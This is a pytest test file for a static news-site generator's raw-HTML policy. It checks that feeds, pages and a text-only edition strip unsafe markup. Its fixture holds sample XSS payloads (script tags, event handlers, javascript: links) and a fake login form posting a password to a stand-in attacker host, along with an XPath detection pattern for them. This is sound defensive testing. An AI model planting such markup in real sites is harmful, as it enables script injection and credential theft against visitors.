"""Hardening item 14: the raw HTML policy (`raw_html: allow | sanitize | forbid`).

Whatever the setting, feeds carry sanitised HTML and the text-only edition carries text;
the setting decides the full page. Our own markup passes the sanitiser byte for byte, so
the sample sites build the same under every setting.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree
from lxml import html as lxml_html

from gen.markup.engine import MarkdownEngine
from gen.markup.sanitize import sanitize, sanitize_lite
from gen.model import Image, Variant
from gen.pages.figures import enhance_body_images, lite_body, picture_html
from tests.conftest import CLOCK, REPO, SITE_YAML, article, build, make_site, output_files, run_cli

ENGINES = ("markdown", "cmark")
MODES = ("allow", "sanitize", "forbid")
ARTICLE = "2026/01/06/hostile"
ATOM = "{http://www.w3.org/2005/Atom}"

HOSTILE = """\
Officials met in Kyiv on Saturday, a spokesman said.

<script>alert("page")</script>

<p onclick="alert('p')">A paragraph with a handler.</p>

<iframe src="https://video.example.org/embed/42" title="Interview"></iframe>

A [Markdown link](javascript:alert(document.domain)) and
a raw <a href="javascript:alert('raw')">link</a>.

<svg onload="alert('svg')"><circle r="5"/></svg>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<video autoplay src="https://evil.example/v.mp4" onloadstart="alert('v')"></video>

<img src="https://cdn.example.org/chart.png" alt="A chart of prices" onerror="alert('img')">

Kept: <b>bold</b>, <abbr title="North Atlantic Treaty Organization">NATO</abbr>,
H<sub>2</sub>O and a [safe link](https://reports.example.com/report).

<!-- an editor's note: check the figures with Oksana -->

<object data="https://evil.example/x.swf"></object>
"""
DANGER = (
    ".//script | .//iframe | .//svg | .//form | .//input | .//button | .//video | .//audio"
    " | .//object | .//embed | .//@*[starts-with(name(), 'on')]"
    " | .//a[starts-with(normalize-space(@href), 'javascript:')]"
)
COMMENT = "check the figures"


def hostile_site(root: Path, mode: str | None, engine: str) -> Path:
    yaml = SITE_YAML + f"search: false\nmarkdown: {{engine: {engine}}}\n"
    if mode is not None:
        yaml += f"raw_html: {mode}\n"
    live_update = (
        "---\ntime: 2026-01-06T03:00:00+02:00\nauthor: david-okafor\n---\n\n"
        'Sirens.<script>alert("live")</script> <iframe src="https://x.example/"></iframe>\n'
    )
    return make_site(
        root / f"{engine}-{mode}",
        {
            "site.yaml": yaml,
            "content/articles/hostile.md": article(body=HOSTILE),
            "content/live/night/index.md": (
                "---\ntitle: Live\nauthor: david-okafor\n"
                "coverage_start: 2026-01-06T02:00:00+02:00\nstatus: live\nsection: conflict\n"
                "---\n\nRolling coverage.\n"
            ),
            "content/live/night/0300-sirens.md": live_update,
        },
    )


def body_of(page: Path) -> lxml_html.HtmlElement:
    (body,) = lxml_html.fromstring(page.read_bytes()).xpath('//div[@class="body"]')
    return body


def fragment(markup: str) -> lxml_html.HtmlElement:
    return lxml_html.fragment_fromstring(markup, create_parent="div")


def feed_entries(out: Path) -> list[lxml_html.HtmlElement]:
    """The hostile story's HTML as each of the three feeds carries it."""
    atom = etree.fromstring((out / "feed.xml").read_bytes())
    rss = etree.fromstring((out / "rss.xml").read_bytes())
    items = json.loads((out / "feed.json").read_text(encoding="utf-8"))["items"]
    encoded = "{http://purl.org/rss/1.0/modules/content/}encoded"
    found = [
        next(
            e.findtext(f"{ATOM}content")
            for e in atom.iter(f"{ATOM}entry")
            if "hostile" in e.findtext(f"{ATOM}id")
        ),
        next(i.findtext(encoded) for i in rss.iter("item") if "hostile" in i.findtext("link")),
        next(i["content_html"] for i in items if "hostile" in i["id"]),
    ]
    return [fragment(markup) for markup in found]


def assert_clean(tree: lxml_html.HtmlElement, where: str) -> None:
    assert tree.xpath(DANGER) == [], where
    text = lxml_html.tostring(tree, encoding="unicode")
    assert "alert(" not in text, where
    assert COMMENT not in text, where


def assert_benign_kept(tree: lxml_html.HtmlElement, where: str) -> None:
    assert tree.xpath(".//b[.='bold']"), where
    assert tree.xpath(".//abbr[@title='North Atlantic Treaty Organization']"), where
    assert tree.xpath(".//sub[.='2']"), where
    assert tree.xpath(".//a[@href='https://reports.example.com/report']"), where
    assert tree.xpath(".//p[.='A paragraph with a handler.']"), where
    assert "Officials met in Kyiv" in tree.text_content(), where


def assert_lite_is_text(out: Path, path: str) -> None:
    doc = lxml_html.fromstring((out / "lite" / path / "index.html").read_bytes())
    assert_clean(doc, f"lite {path}")
    assert not doc.xpath("//img | //picture | //source | //@src | //@srcset"), path
    for href in doc.xpath("//main//@href"):
        assert href.startswith(("https://", "http://", "mailto:", "/", "#")), href


@pytest.mark.parametrize("engine", ENGINES)
def test_allow_passes_raw_html_into_pages_but_never_into_feeds_or_the_lite_edition(
    tmp_path: Path, engine: str
) -> None:
    site = hostile_site(tmp_path, "allow", engine)
    result = build(site)
    assert result.code == 0, result.err
    assert "raw_html" not in result.err  # as today: nothing said, nothing removed
    out = site / "output"
    body = body_of(out / ARTICLE / "index.html")
    for tag in ("script", "iframe", "svg", "form", "video", "object"):
        assert body.xpath(f".//{tag}"), tag
    assert body.xpath(".//a[starts-with(@href, 'javascript:')]")
    assert COMMENT in lxml_html.tostring(body, encoding="unicode")
    for where, entry in zip(("atom", "rss", "json"), feed_entries(out), strict=True):
        assert_clean(entry, where)
        assert_benign_kept(entry, where)
    assert_lite_is_text(out, ARTICLE)
    assert_lite_is_text(out, "live/night")
    assert "[A chart of prices]" in (out / "lite" / ARTICLE / "index.html").read_text()


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("mode", ["sanitize", None], ids=["sanitize", "default"])
def test_sanitize_removes_what_is_unsafe_keeps_the_rest_and_says_where(
    tmp_path: Path, engine: str, mode: str | None
) -> None:
    site = hostile_site(tmp_path, mode, engine)
    result = build(site)
    assert result.code == 0, result.err
    out = site / "output"
    body = body_of(out / ARTICLE / "index.html")
    assert_clean(body, "page")
    assert_benign_kept(body, "page")
    assert body.xpath(".//img[@src='https://cdn.example.org/chart.png'][@alt='A chart of prices']")
    for where, entry in zip(("atom", "rss", "json"), feed_entries(out), strict=True):
        assert_clean(entry, where)
        assert_benign_kept(entry, where)
    assert_lite_is_text(out, ARTICLE)
    assert_lite_is_text(out, "live/night")
    live = lxml_html.fromstring((out / "live/night/index.html").read_bytes())
    assert not live.xpath("//main//iframe | //main//script[not(@type)]")
    # Nothing vanishes without a word: each removal is a warning at its line.
    text = (site / "content/articles/hostile.md").read_text(encoding="utf-8").splitlines()

    def at(needle: str) -> str:
        line = next(n for n, t in enumerate(text, 1) if needle in t)
        return f"content/articles/hostile.md:{line}: "

    warnings = result.err.splitlines()
    expected = [
        at("<script>") + "HTML <script> removed (raw_html: sanitize) (warning)",
        at("onclick") + "HTML attribute onclick=\"alert('p')\" removed from <p> "
        "(raw_html: sanitize) (warning)",
        at("<iframe") + "HTML <iframe> removed (raw_html: sanitize) (warning)",
        at("Markdown link") + 'HTML attribute href="javascript:alert(document.domain)" removed '
        "from <a> (raw_html: sanitize) (warning)",
        at("a raw <a") + "HTML attribute href=\"javascript:alert('raw')\" removed from <a> "
        "(raw_html: sanitize) (warning)",
        at("<svg") + "HTML <svg> removed (raw_html: sanitize) (warning)",
        at("<form") + "HTML <form> removed (raw_html: sanitize) (warning)",
        at("<video") + "HTML <video> removed (raw_html: sanitize) (warning)",
        at("onerror") + "HTML attribute onerror=\"alert('img')\" removed from <img> "
        "(raw_html: sanitize) (warning)",
        at("<object") + "HTML <object> removed (raw_html: sanitize) (warning)",
    ]
    assert [w for w in warnings if "hostile.md" in w] == expected
    assert any(
        w.startswith("content/live/night/0300-sirens.md:6: HTML <script> removed") for w in warnings
    )


@pytest.mark.parametrize("engine", ENGINES)
def test_forbid_refuses_raw_html_at_the_line_where_it_starts(tmp_path: Path, engine: str) -> None:
    site = hostile_site(tmp_path, "forbid", engine)
    result = build(site)
    assert result.code == 1
    assert "Traceback" not in result.err
    assert not (site / "output").exists()
    text = (site / "content/articles/hostile.md").read_text(encoding="utf-8").splitlines()
    expected = []
    for needle, tag in (
        ("<script>", "<script>"),
        ("<p onclick", "<p>"),
        ("<iframe", "<iframe>"),
        ("a raw <a href", "<a>"),
        ("<svg", "<svg>"),
        ("<form", "<form>"),
        ("<video", "<video>"),
        ("<img", "<img>"),
        ("<b>bold", "<b>"),
        ("H<sub>", "<sub>"),
        ("<object", "<object>"),
    ):
        line = next(n for n, t in enumerate(text, 1) if needle in t)
        expected.append(
            (
                line,
                f"content/articles/hostile.md:{line}: raw HTML {tag} is not allowed "
                "(raw_html: forbid)",
            )
        )
    errors = [e for e in result.err.splitlines() if "hostile.md" in e]
    assert errors == [message for _, message in sorted(expected)]
    assert (
        "content/live/night/0300-sirens.md:6: raw HTML <script> is not allowed (raw_html: forbid)"
        in result.err
    )


@pytest.mark.parametrize("engine", ENGINES)
def test_forbid_allows_comments_and_still_cleans_markdown_links(
    tmp_path: Path, engine: str
) -> None:
    body = (
        "A story.\n\n<!-- an editor's note: check the figures with Oksana -->\n\n"
        "A [bad link](javascript:alert(1)) and `<script>` in code.\n\n"
        "```html\n<iframe src=x></iframe>\n```\n"
    )
    yaml = SITE_YAML + f"search: false\nraw_html: forbid\nmarkdown: {{engine: {engine}}}\n"
    site = make_site(tmp_path, {"site.yaml": yaml, "content/articles/a.md": article(body=body)})
    result = build(site)
    assert result.code == 0, result.err
    text = (site / "content/articles/a.md").read_text(encoding="utf-8").splitlines()
    line = next(n for n, t in enumerate(text, 1) if "bad link" in t)
    assert result.err == (
        f'content/articles/a.md:{line}: HTML attribute href="javascript:alert(1)" removed '
        "from <a> (raw_html: forbid) (warning)\n"
    )
    page = body_of(site / "output/2026/01/06/a/index.html")
    assert COMMENT not in lxml_html.tostring(page, encoding="unicode")
    assert page.xpath(".//a[.='bad link'][not(@href)]")
    assert page.xpath(".//code[.='<script>']")
    assert page.xpath(".//pre/code[contains(., '<iframe')]")


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("maybe", "'raw_html' must be allow, sanitize or forbid, got 'maybe'"),
        (
            "sanitise",
            "'raw_html' must be allow, sanitize or forbid, got 'sanitise'; "
            "did you mean 'sanitize'?",
        ),
        ("[allow]", "'raw_html' must be text: "),
    ],
)
def test_other_raw_html_values_are_refused_at_their_line(
    tmp_path: Path, value: str, message: str
) -> None:
    site = make_site(tmp_path, {"site.yaml": SITE_YAML + f"raw_html: {value}\n"})
    line = len(SITE_YAML.splitlines()) + 1
    result = build(site)
    assert result.code == 1
    assert result.err.startswith(f"site.yaml:{line}: {message}")


# --- Our own markup passes untouched --------------------------------------------------------

OWN = """\
# Title

Intro with *em*, **strong**, ***both***, `code "quoted" & <tagged>`,
[a link](https://example.org "T"), [a local one](/a/b), <https://auto.example>,
mail@example.org, x~~del~~y, it's -- "quoted"...

## A table & more

| Left | Centre | Right |
|:-----|:------:|------:|
| a    | b      | c     |

3. three
4. four

- a
    - b

> A quote with a note[^1] and another[^note].

Term
:   Definition

*[NATO]: North Atlantic Treaty Organization

NATO met. An image ![Alt "text"](images/photo.png "Caption|Credit") inline.

![A figure](images/photo.png "The courtyard|Photo: Oksana Lys")

```python
print("hi") < 3 & 4
```

    indented <code>

Line\\
break, and{HARD_BREAK}another

* * *

[^1]: Note one.
[^note]: Note two with [link](https://x.example) and a non-breaking space.
""".replace("{HARD_BREAK}", "  \n")


@pytest.mark.parametrize("engine", ENGINES)
def test_our_own_markup_passes_every_sanitiser_byte_for_byte(engine: str) -> None:
    allowed = MarkdownEngine("/news/", engine).convert(OWN)
    assert MarkdownEngine("/news/", engine, "sanitize").convert(OWN) == allowed
    assert MarkdownEngine("/news/", engine, "forbid").convert(OWN) == allowed
    assert sanitize(allowed.html) == allowed.html
    image = Image(
        src="images/photo.png",
        url="/images/photo.png",
        alt="A courtyard",
        width=1600,
        height=900,
        variants=tuple(
            Variant(w, w * 9 // 16, f"images/photo-{w}.{ext}", mime)
            for w in (480, 960, 1600)
            for ext, mime in (("webp", "image/webp"), ("png", "image/png"))
        ),
    )
    body = enhance_body_images(allowed.html, {"/news/images/photo.png": image}, "/news/")
    assert "<picture>" in body and '<figure class="image">' in body
    assert sanitize(body) == body
    # The figure says what its own Markdown says (each use has its own alt text).
    assert picture_html(replace(image, alt="A figure"), "/news/") in body
    lite = lite_body(body)
    assert '<p class="image-text">' in lite and "<img" not in lite
    assert sanitize_lite(lite) == lite


def test_typographic_entities_are_kept_and_do_not_hide_what_is_removed() -> None:
    """The cleaner writes &rsquo; as ’: a body that differs only so is kept as written, and
    one that also lost something unsafe is the cleaned one."""
    text = "<p>It&rsquo;s &ldquo;over&rdquo; &ndash; or&hellip;</p>"
    body = text + '\n<p><img src="a.jpg" alt="A &lsquo;map&rsquo;"></p>'
    assert sanitize(body) == body and sanitize_lite(text) == text
    unsafe = '<p onclick="steal()">It&rsquo;s <a href="javascript:x()">here</a></p>'
    cleaned = sanitize(unsafe)
    assert "onclick" not in cleaned and "javascript" not in cleaned
    root = lxml_html.fragment_fromstring(cleaned, create_parent="div")
    assert root.text_content() == "It’s here"


def test_the_golden_site_builds_byte_for_byte_under_every_setting(tmp_path: Path) -> None:
    golden = output_files(REPO / "tests/golden")
    for mode in MODES:
        site = tmp_path / mode
        shutil.copytree(
            REPO / "tests/fixtures/golden-site", site, ignore=shutil.ignore_patterns(".cache")
        )
        with (site / "site.yaml").open("a", encoding="utf-8") as yaml:
            yaml.write(f"raw_html: {mode}\n")
        out = tmp_path / f"out-{mode}"
        result = run_cli("build", "--site", str(site), "--output", str(out), "--clock", CLOCK)
        assert result.code == 0, (mode, result.err)
        assert output_files(out) == golden, mode


def test_the_sample_site_is_the_same_when_raw_html_is_allowed(
    tmp_path: Path, sample_build: Path
) -> None:
    """The bundled sample site by default (sanitize) and with raw HTML passed through."""
    site = tmp_path / "sample"
    site.mkdir()
    shutil.copy(REPO / "site.yaml", site / "site.yaml")
    shutil.copytree(REPO / "content", site / "content")
    with (site / "site.yaml").open("a", encoding="utf-8") as yaml:
        yaml.write("raw_html: allow\n")
    out = tmp_path / "out"
    result = run_cli("build", "--site", str(site), "--output", str(out), "--clock", CLOCK)
    assert result.code == 0, result.err
    assert output_files(out) == output_files(sample_build)


# --- The text-only edition's budget ----------------------------------------------------------


def test_a_story_too_long_for_one_lite_page_is_a_warning(tmp_path: Path) -> None:
    paragraph = (
        "The minister said talks would resume on Monday after officials from both sides met "
        "in Kyiv to discuss energy, grain and the exchange of prisoners. "
    ) * 3
    body = "\n\n".join([paragraph] * 50)  # about 4,000 words
    site = make_site(
        tmp_path,
        {
            "site.yaml": SITE_YAML + "search: false\n",
            "content/articles/long.md": article(body=body),
            "content/articles/short.md": article(body=paragraph),
        },
    )
    result = build(site)
    assert result.code == 0
    lite = site / "output/lite/2026/01/06/long/index.html"
    size = lite.stat().st_size
    assert size > 20 * 1024
    (warning,) = result.err.splitlines()
    assert warning.startswith(
        "content/articles/long.md:7: its text-only (lite) page will be about "
    )
    estimate = float(warning.split("about ")[1].split(" KB")[0])
    assert abs(estimate - size / 1024) < 1
    assert "short.md" not in result.err
